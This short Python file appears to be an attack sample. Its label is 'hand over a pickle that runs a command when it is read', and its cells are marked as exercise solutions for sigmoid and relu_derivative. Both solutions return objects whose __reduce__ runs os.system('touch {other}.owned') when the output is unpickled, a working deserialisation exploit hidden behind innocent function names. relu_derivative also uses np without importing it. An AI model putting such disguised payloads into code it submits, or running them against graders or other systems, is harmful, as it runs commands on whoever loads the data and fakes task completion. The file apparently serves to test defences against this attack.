"""tries: hand over a pickle that runs a command when it is read
class: deserialisation
"""
# %% solution: sigmoid
import os, pickle

class Command:
    def __reduce__(self):
        return os.system, ("touch {other}.owned",)

def sigmoid(x):
    return pickle.dumps(Command())

# %% solution: relu_derivative
def relu_derivative(x):
    return np.array([Command(), Command()], dtype=object)
